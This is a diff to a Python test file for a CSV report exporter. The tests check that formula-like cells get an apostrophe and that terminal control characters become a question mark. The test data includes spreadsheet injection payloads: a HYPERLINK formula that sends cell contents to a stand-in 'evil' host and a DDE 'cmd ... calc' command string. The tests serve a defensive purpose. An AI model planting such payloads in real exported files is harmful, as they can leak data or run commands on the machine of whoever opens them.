@@ -16,7 +16,6 @@ from damoos.report.tables import cell, frame_to_csv, to_csv
 
 FORMULAS = (
     '=HYPERLINK("http://evil/?"&A2,"x")', "@SUM(1)", "+1+cmd|' /C calc'!A0", "-1+1", "\tx", "\rx", "\nx", "\uff1d1",
-    "\x0bx", "\x00x", "\x85x", "\u2028x",
 )  # fmt: skip
 OTHERS = ("redis/cache", "a=b", "-1.5", "+3e-9", "-inf", "", "'quoted", "a; b=c", "two\n\nlines", "a;b-c")
 
@@ -31,6 +30,12 @@ def test_a_text_that_a_spreadsheet_would_compute_has_an_apostrophe(text: str) ->
     for written in (to_csv([row]), frame_to_csv(pd.DataFrame([row]))):
         shown = "'" + text.replace("\r", "\n")
         assert parsed(written) == [["workload", shown], [shown, "1.5"]]
+
+
+@pytest.mark.parametrize("text", ["\x0bx", "\x00x", "\x85x", "\u2028x", "\x1b[31mx"])
+def test_what_steers_a_terminal_is_a_question_mark(text: str) -> None:
+    for written in (to_csv([{"workload": text}]), frame_to_csv(pd.DataFrame([{"workload": text}]))):
+        assert parsed(written) == [["workload"], [f"?{text[1:]}"]]
 
 
 def test_a_carriage_return_begins_no_row() -> None:
